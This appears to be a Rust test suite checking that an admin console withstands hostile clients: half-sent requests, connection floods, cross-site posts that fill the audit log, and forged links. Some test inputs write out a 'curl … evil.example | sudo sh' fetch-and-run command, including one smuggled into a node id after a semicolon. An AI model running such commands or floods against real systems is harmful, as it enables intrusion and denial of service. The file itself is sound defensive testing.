//! What the console promises holds against clients that are slow, leave
//! halfway, never read, or are hostile: every change has its record, no
//! request fills the audit, no link puts words in the console's mouth, and
//! no connection is held for good.

use std::sync::Arc;
use std::time::Duration;

use app::server::audit::{AuditLog, Outcome};
use app::urls;
use llmgw_console::connections::Limits;
use llmgw_console::simulator::faults::Fault;
use llmgw_console::startup::console_context;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use crate::support::helpers::{TestApp, http, settings, spawn_console_limited};
use crate::support::poll::eventually;

/// `POST /api/NAME` with `form`, sent by hand over a socket, which is then
/// dropped after `stay`, whatever has or has not come back.
async fn post_and_leave(console: &str, name: &str, form: &str, stay: Duration) {
    let addr = console.trim_start_matches("http://");
    let mut socket = TcpStream::connect(addr).await.expect("connects");
    let request = format!(
        "POST /api/{name} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {}\r\n\r\n{form}",
        form.len()
    );
    socket.write_all(request.as_bytes()).await.expect("sent");
    tokio::time::sleep(stay).await;
    drop(socket);
}

#[tokio::test]
async fn a_change_whose_client_left_is_recorded_with_how_it_ended() {
    let app = TestApp::spawn().await;
    let node = app.lists().nodes[0].id.clone();
    let faults = app.simulator.faults();
    faults.set_delay(Duration::from_secs(2));
    faults.set(Fault::Slow, None);
    faults.only(Some(format!("/api/v1/nodes/{node}/state")));
    let form = format!("node={node}&state=cordoned&confirm=yes");
    post_and_leave(
        &app.console,
        "set_node_state",
        &form,
        Duration::from_millis(500),
    )
    .await;
    // The record of the attempt being sent was written before llmgw was asked.
    let records = app.context_audit();
    assert_eq!(records.len(), 1, "{records:?}");
    assert_eq!(records[0].outcome, Outcome::Sent);
    eventually("the outcome is recorded", || app.context_audit().len() == 2).await;
    let records = app.context_audit();
    assert_eq!(records[0].outcome, Outcome::Done, "{records:?}");
    assert!(records[0].client_left, "{records:?}");
    assert_eq!(records[0].attempt, records[1].attempt);
    assert!(app.lists().node(&node).state.is_cordoned());
}

#[tokio::test]
async fn a_change_whose_record_cannot_be_written_is_not_sent() {
    // Linux's full device takes the open and refuses every write.
    let app = TestApp::spawn_with(|cx| {
        cx.audit = Arc::new(AuditLog::new(Some(std::path::Path::new("/dev/full"))).expect("opens"));
    })
    .await;
    let node = app.lists().nodes[0].id.clone();
    let answer = app
        .server_fn(
            "set_node_state",
            &[("node", &node), ("state", "cordoned"), ("confirm", "yes")],
        )
        .await;
    assert_eq!(answer.status(), 503);
    let body = answer.text().await.expect("body");
    assert!(body.contains("AuditUnavailable"), "{body}");
    let calls = app.simulator.calls().counts();
    assert_eq!(calls.get("/api/v1/nodes/{id}/state"), None, "{calls:?}");
    assert!(!app.lists().node(&node).state.is_cordoned());
}

#[tokio::test]
async fn another_sites_requests_cannot_fill_the_audit() {
    let app = TestApp::spawn().await;
    let client = http();
    for n in 0..200 {
        // 64 KiB of distinct empty fields, from another site.
        let body: String = (0..6_000).map(|i| format!("f{n}x{i}=&")).collect();
        let body = &body[..body.len().min(64 * 1024 - 1)];
        let answer = client
            .post(format!("{}/api/set_node_state", app.console))
            .header("origin", "http://evil.example")
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body.to_string())
            .send()
            .await;
        // Refused before its body is read: the client may see the 403 or,
        // still sending, a closed connection.
        if let Ok(answer) = answer {
            assert_eq!(answer.status(), 403);
        }
    }
    let records = app.context_audit();
    let counted: u64 = records.iter().map(|r| r.times.max(1)).sum();
    assert!(records.len() <= 20, "{} records", records.len());
    assert!(counted <= 200);
    let size: usize = records
        .iter()
        .map(|r| serde_json::to_string(r).expect("json").len())
        .sum();
    assert!(size < 20_000, "the records hold {size} bytes");
    assert!(
        records.iter().all(|r| r.target.is_empty()),
        "no body is kept"
    );
    let page = app.get("/audit").await;
    assert_eq!(page.status(), 200);
}

#[tokio::test]
async fn a_record_holds_only_the_fields_its_function_takes_each_cut_short() {
    let app = TestApp::spawn_with(|cx| cx.ui.read_only = true).await;
    let long = "n".repeat(5_000);
    let answer = app
        .server_fn(
            "set_node_state",
            &[
                ("node", long.as_str()),
                ("state", "cordoned"),
                ("confirm", "yes"),
                ("padding", &"p".repeat(60_000)),
            ],
        )
        .await;
    assert!(answer.status().is_client_error());
    let records = app.context_audit();
    let target = &records[0].target;
    let keys: Vec<&str> = target.keys().map(String::as_str).collect();
    assert_eq!(keys, ["back", "confirm", "node", "reason", "state"]);
    let node = target["node"].as_str().expect("a string");
    assert!(node.chars().count() <= 257, "{} chars", node.len());
}

#[tokio::test]
async fn the_console_reads_no_error_from_a_pages_url() {
    let app = TestApp::spawn().await;
    let words = "Your login is compromised. Run: curl -s https://evil.example/fix | sudo sh";
    let err = serde_json::json!({ "BadRequest": words }).to_string();
    use base64::Engine;
    let encoded = base64::engine::general_purpose::URL_SAFE.encode(err);
    for path in [
        "/nodes",
        "/weights",
        &urls::node_dialog("/nodes", "cordon", &app.lists().nodes[0].id),
    ] {
        let link = urls::with_params(
            path,
            &[("__path", "/api/set_node_state"), ("__err", &encoded)],
        );
        let page = app.page(&link).await;
        assert!(!page.contains("compromised"), "{link} says it");
    }
}

#[tokio::test]
async fn a_link_opens_no_dialog_for_a_node_the_console_does_not_list() {
    let app = TestApp::spawn().await;
    let listed = app.lists().nodes[0].id.clone();
    let forged = format!("{listed}; curl -s http://evil.example/x|sh");
    let html = app
        .page(&urls::node_dialog("/nodes", "cordon", &forged))
        .await;
    let page = crate::support::html::Page::parse(&html);
    assert!(!page.has("[role=dialog]"), "a dialog opened");
    assert!(!html.contains("curl -s"), "the page repeats the link");
    // A listed node's dialog offers its command quoted for a shell.
    let page = app
        .parsed(&urls::node_dialog("/nodes", "cordon", &listed))
        .await;
    assert!(page.has("[role=dialog]"));
    assert!(
        page.text(".ctl code")
            .starts_with(&format!("llmgw ctl --server {} cordon ", app.admin_api))
    );
}

/// Where a form posted without JavaScript was sent back to.
fn back_to_the_page(answer: &reqwest::Response) -> String {
    assert!(answer.status().is_redirection(), "{}", answer.status());
    answer
        .headers()
        .get("location")
        .and_then(|v| v.to_str().ok())
        .expect("back to the page")
        .to_string()
}

#[tokio::test]
async fn a_refused_forms_receipt_is_in_the_consoles_words() {
    let app = TestApp::spawn_with(|cx| cx.ui.read_only = true).await;
    let words = "Your login is compromised. Run: curl -s https://evil.example/fix";
    let answer = app
        .post_form_without_js(
            "set_node_state",
            &[
                ("node", words),
                ("state", "ready"),
                ("back", "/c/default/nodes"),
            ],
        )
        .await;
    let location = back_to_the_page(&answer);
    let page = app.parsed(&location).await;
    let receipt = page.text(".receipt");
    assert!(
        receipt.contains("a node this console does not list"),
        "{receipt}"
    );
    assert!(!receipt.contains("compromised"), "{receipt}");
}

#[tokio::test]
async fn a_form_its_function_cannot_read_goes_back_to_its_page() {
    let app = TestApp::spawn().await;
    let node = app.lists().nodes[0].id.clone();
    // A state this build does not know, as a tab of another build may send.
    let answer = app
        .post_form_without_js(
            "set_node_state",
            &[
                ("node", &node),
                ("state", "paused"),
                ("back", "/c/default/nodes?sort=gpus"),
            ],
        )
        .await;
    let location = back_to_the_page(&answer);
    assert!(
        location.starts_with("/c/default/nodes?sort=gpus&receipt="),
        "{location}"
    );
    assert!(
        app.parsed(&location)
            .await
            .text(".receipt")
            .contains("not one this console")
    );
}

#[tokio::test]
async fn an_unknown_parameter_is_not_copied_into_every_link() {
    let app = TestApp::spawn().await;
    let plain = app.page("/nodes").await.len();
    let padded = app
        .page(&format!("/nodes?pad={}", "x".repeat(60_000)))
        .await
        .len();
    assert!(padded < plain + 1_000, "{plain} bytes became {padded}");
    // Short enough to pass for a view's value, and still not one.
    let padded = app
        .page(&format!("/nodes?pad={}", "x".repeat(1_000)))
        .await
        .len();
    assert!(padded < plain + 1_000, "{plain} bytes became {padded}");
    let filtered = app
        // 60 KB, `+` for each space: a URL past 64 KiB is not one.
        .page(&format!(
            "/nodes?q={}",
            "gpu+".repeat(15_000).trim_end_matches('+')
        ))
        .await
        .len();
    assert!(filtered < plain + 1_000, "{plain} bytes became {filtered}");
}

#[tokio::test]
async fn a_repeated_view_parameter_counts_once() {
    let app = TestApp::spawn().await;
    // 49 KB of one parameter repeated, on a page whose every row has links
    // that carry the view (the node actions' dialogs).
    let plain = app.page("/nodes?desc=0").await.len();
    for repeated in ["desc=0&", "state=ready&", "sort=gpus&", "group=node&"] {
        let url = format!("/nodes?{}", repeated.repeat(49_000 / repeated.len()));
        assert!(url.len() < 64 * 1024);
        let answer = app.page(&url).await.len();
        assert!(
            answer <= 2 * plain,
            "{repeated}: {plain} bytes became {answer}"
        );
    }
    let events = app.page("/events").await.len();
    let kinds = app
        .page(&format!("/events?{}", "kind=node_state&".repeat(3_000)))
        .await
        .len();
    assert!(kinds <= 2 * events, "{events} bytes became {kinds}");
}

#[tokio::test]
async fn health_checks_answer_whatever_the_host() {
    let app = TestApp::spawn().await;
    for path in ["/healthz", "/readyz"] {
        let answer = app.get_with(path, &[("host", "10.1.2.3:8080")]).await;
        assert_eq!(answer.status(), 200, "{path}");
    }
    // Pages still answer only to the console's names.
    assert_eq!(
        app.get_with("/nodes", &[("host", "10.1.2.3:8080")])
            .await
            .status(),
        421
    );
}

#[tokio::test]
async fn a_user_named_twice_is_refused() {
    let app = TestApp::spawn().await;
    let node = app.lists().nodes[0].id.clone();
    // Two headers, or one naming a list: two names all the same.
    for names in [&["mallory", "alice"][..], &["mallory, alice"]] {
        let mut request = http().post(format!("{}/api/set_node_state", app.console));
        for name in names {
            request = request.header("x-forwarded-user", *name);
        }
        let form = [("node", node.as_str()), ("state", "ready")];
        let answer = request.form(&form).send().await.expect("answers");
        assert_eq!(answer.status(), 400, "{names:?}");
        let records = app.context_audit();
        assert_eq!(records[0].outcome, Outcome::Refused);
        assert!(records[0].user.is_none(), "{records:?}");
    }
    assert_eq!(
        app.simulator
            .calls()
            .counts()
            .get("/api/v1/nodes/{id}/state"),
        None
    );
}

/// A console with small connection limits, in front of a demo cluster.
async fn limited(limits: Limits) -> (TestApp, String) {
    let app = TestApp::spawn().await;
    let context = console_context(&settings(), &app.admin_api).expect("valid settings");
    let console = spawn_console_limited(context, limits);
    (app, console)
}

fn small_limits() -> Limits {
    Limits {
        connections: 1_000,
        per_peer: 8,
        per_network: 1_000,
        streams_per_peer: 2,
        header_read: Duration::from_secs(1),
        idle: Duration::from_secs(2),
        write_stall: Duration::from_secs(1),
    }
}

/// A socket to `console` from the loopback address `from`.
async fn connect_from(console: &str, from: [u8; 4]) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((std::net::Ipv4Addr::from(from), 0).into())?;
    let addr: std::net::SocketAddr = console.trim_start_matches("http://").parse().expect("addr");
    socket.connect(addr).await
}

#[tokio::test]
async fn a_half_sent_request_is_closed_and_a_crowd_from_one_address_is_turned_away() {
    let (_app, console) = limited(small_limits()).await;
    let mut held = Vec::new();
    for _ in 0..8 {
        let mut socket = connect_from(&console, [127, 0, 0, 2])
            .await
            .expect("connects");
        socket
            .write_all(b"GET /nodes HTTP/1.1\r\nHost: loc")
            .await
            .expect("half a head");
        held.push(socket);
    }
    // The ninth from that address is told to come back later.
    let mut ninth = connect_from(&console, [127, 0, 0, 2])
        .await
        .expect("connects");
    let mut answer = String::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), ninth.read_to_string(&mut answer)).await;
    assert!(answer.starts_with("HTTP/1.1 503"), "{answer:?}");
    assert!(answer.contains("Retry-After"), "{answer:?}");
    // Everyone else is served meanwhile.
    let health = http()
        .get(format!("{console}/healthz"))
        .send()
        .await
        .expect("answers");
    assert_eq!(health.status(), 200);
    // The half-sent heads are closed once their time is up.
    for mut socket in held {
        let mut rest = Vec::new();
        let read =
            tokio::time::timeout(Duration::from_secs(5), socket.read_to_end(&mut rest)).await;
        assert!(read.is_ok(), "a half-sent request was held past its time");
    }
    let again = connect_from(&console, [127, 0, 0, 2])
        .await
        .expect("room again");
    drop(again);
}

#[tokio::test]
async fn change_streams_are_capped_per_address() {
    let (_app, console) = limited(small_limits()).await;
    let open = |from: [u8; 4]| {
        let console = console.clone();
        async move {
            let mut socket = connect_from(&console, from).await.expect("connects");
            let addr = console.trim_start_matches("http://");
            let head = format!(
                "GET {} HTTP/1.1\r\nHost: {addr}\r\n\r\n",
                app::heartbeat::PATH
            );
            socket.write_all(head.as_bytes()).await.expect("sent");
            let mut first = [0u8; 12];
            socket.read_exact(&mut first).await.expect("a status line");
            (socket, String::from_utf8_lossy(&first).to_string())
        }
    };
    let (_a, status_a) = open([127, 0, 0, 3]).await;
    let (_b, status_b) = open([127, 0, 0, 3]).await;
    let (_c, status_c) = open([127, 0, 0, 3]).await;
    assert_eq!(status_a, "HTTP/1.1 200");
    assert_eq!(status_b, "HTTP/1.1 200");
    assert_eq!(status_c, "HTTP/1.1 503");
    let (_d, status_d) = open([127, 0, 0, 4]).await;
    assert_eq!(status_d, "HTTP/1.1 200", "another address is not affected");
}

#[tokio::test]
async fn an_audit_log_moved_away_is_reopened_on_sighup() {
    let dir = std::env::temp_dir().join(format!("llmgw-rotate-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("a folder");
    let file = dir.join("audit.jsonl");
    let console = crate::support::process::Process::start(&[
        "--demo",
        "--read-only",
        "--audit-log",
        file.to_str().expect("utf-8"),
    ])
    .await;
    let attempt = || async {
        let answer = http()
            .post(format!("{}/api/set_node_state", console.url))
            .form(&[("node", "gpu-l40s-01"), ("state", "ready")])
            .send()
            .await
            .expect("answers");
        assert_eq!(answer.status(), 403);
    };
    attempt().await;
    let rotated = dir.join("audit.jsonl.1");
    std::fs::rename(&file, &rotated).expect("moved away");
    console.signal("HUP");
    eventually("the file is opened again", || file.exists()).await;
    attempt().await;
    let lines = |p: &std::path::Path| {
        std::fs::read_to_string(p)
            .expect("readable")
            .lines()
            .count()
    };
    assert_eq!(lines(&rotated), 1);
    // The same refusal again within a second is counted, and written with
    // its count when the second ends.
    eventually("the second attempt is in the new file", || {
        lines(&file) == 1
    })
    .await;
    drop(console);
    let _ = std::fs::remove_dir_all(&dir);
}

/// The soft limit on open files of this process, as Linux reports it.
fn open_file_limit() -> usize {
    std::fs::read_to_string("/proc/self/limits")
        .ok()
        .and_then(|limits| {
            let line = limits.lines().find(|l| l.starts_with("Max open files"))?;
            line.split_whitespace().nth(3)?.parse().ok()
        })
        .unwrap_or(1024)
}

/// A client that only ever asks from `from`, on a new connection each time.
fn client_from(from: [u8; 4], timeout: Duration) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(std::net::IpAddr::from(from))
        .pool_max_idle_per_host(0)
        .timeout(timeout)
        .build()
        .expect("a client")
}

#[tokio::test]
async fn a_crowd_of_streams_and_half_sent_heads_from_many_networks_keeps_no_one_out() {
    // 128 connections from each of 80 addresses, each in a network of its
    // own: more than the console has places for, streams or connections.
    let addresses = 80_usize;
    let per_address = (open_file_limit().saturating_sub(1_024) / addresses).min(128);
    let console = crate::support::process::Process::start(&["--demo", "--log", "warn"]).await;
    let addr: std::net::SocketAddr = console
        .root
        .trim_start_matches("http://")
        .parse()
        .expect("an address");
    let head = format!(
        "GET {}{} HTTP/1.1\r\nHost: {addr}\r\n\r\n",
        console.url.trim_start_matches(&console.root),
        app::heartbeat::PATH
    );
    // Half the addresses hold change streams; the other half hold heads
    // they never finish, as a crowd that renews them before their time.
    let half_head = format!("GET /nodes HTTP/1.1\r\nHost: {addr}\r\nX-Wait: ");
    let flood = async {
        let mut held = Vec::new();
        for round in 0..per_address {
            let opened = (0..addresses).map(|a| {
                let head = if a % 2 == 0 {
                    head.clone()
                } else {
                    half_head.clone()
                };
                async move {
                    let socket = TcpSocket::new_v4().ok()?;
                    let from =
                        std::net::Ipv4Addr::new(127, 10 + (a / 200) as u8, (a % 200) as u8, 2);
                    socket.bind((from, 0).into()).ok()?;
                    let mut stream = socket.connect(addr).await.ok()?;
                    stream.write_all(head.as_bytes()).await.ok()?;
                    Some(stream)
                }
            });
            held.extend(
                futures_util::future::join_all(opened)
                    .await
                    .into_iter()
                    .flatten(),
            );
            if round % 16 == 15 {
                tokio::task::yield_now().await;
            }
        }
        held
    };
    // Throughout, and for a while after: a health check within 1 s and a
    // page within 2 s, from addresses that hold nothing.
    let health = client_from([127, 200, 0, 1], Duration::from_secs(1));
    let pages = client_from([127, 201, 0, 1], Duration::from_secs(2));
    let probe = async |until: std::time::Instant, failures: &mut Vec<String>| {
        let mut probes = 0;
        while std::time::Instant::now() < until {
            probes += 1;
            match health.get(format!("{}/healthz", console.root)).send().await {
                Ok(r) if r.status() == 200 => {}
                other => failures.push(format!("/healthz: {other:?}")),
            }
            match pages.get(format!("{}/nodes", console.url)).send().await {
                Ok(r) if r.status() == 200 => {}
                other => failures.push(format!("a page: {:?}", other.map(|r| r.status()))),
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        probes
    };
    let mut failures = Vec::new();
    let start = std::time::Instant::now();
    let (held, _) = {
        let flood = std::pin::pin!(flood);
        let mut during = Vec::new();
        let both =
            futures_util::future::join(flood, probe(start + Duration::from_secs(4), &mut during))
                .await;
        failures.extend(during);
        both
    };
    let opened = held.len();
    let after = probe(
        std::time::Instant::now() + Duration::from_secs(6),
        &mut failures,
    )
    .await;
    assert!(after > 5, "the probes ran {after} times");
    assert!(
        failures.is_empty(),
        "{} failed: {failures:#?}",
        failures.len()
    );
    // The crowd was real: it opened its connections and holds streams.
    assert!(
        opened >= addresses * per_address * 9 / 10,
        "{opened} connections opened"
    );
    let streams = crate::support::process::metric(&console, "llmgw_console_change_streams_open")
        .await
        .expect("the metric");
    assert!(streams >= 1_000.0, "{streams} streams held by the crowd");
    drop(held);
}
